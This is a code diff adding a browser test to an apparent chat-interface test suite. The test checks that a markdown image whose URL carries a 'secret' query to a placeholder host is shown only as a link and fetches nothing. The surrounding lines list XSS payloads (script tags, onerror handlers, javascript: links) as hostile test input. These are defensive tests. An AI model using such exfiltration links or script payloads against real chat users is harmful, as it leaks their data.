@@ -215,6 +215,22 @@ test("a template that we do not draw is shown by its text", async ({ page, parlo
   await expect(page.getByText("template_type")).toHaveCount(0);
 });
 
+test("a picture inside of text is a link, and nothing visible is not sent", async ({ page, parlour }) => {
+  const chat = await standalone(page, parlour);
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(new URL(request.url()).hostname));
+  await chat.tell("![spy](https://pictures.example/?q=secret)");
+  const link = chat.row("I did not understand").getByRole("link", { name: "spy" });
+  await expect(link).toHaveAttribute("href", "https://pictures.example/?q=secret");
+  await expect(chat.log.locator("img")).toHaveCount(0);
+  expect(asked).not.toContain("pictures.example");
+  await page.getByLabel("Message", { exact: true }).fill("\u200b");
+  await page.keyboard.press("Enter");
+  await expect(chat.mine).toHaveCount(1);
+  await chat.tell("👩\u200d👧");
+  await expect(chat.mine).toHaveCount(2);
+});
+
 const HOSTILE = [
   "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
   "[press](javascript:document.title='owned') ![x](javascript:1) [data](data:text/html,x)",
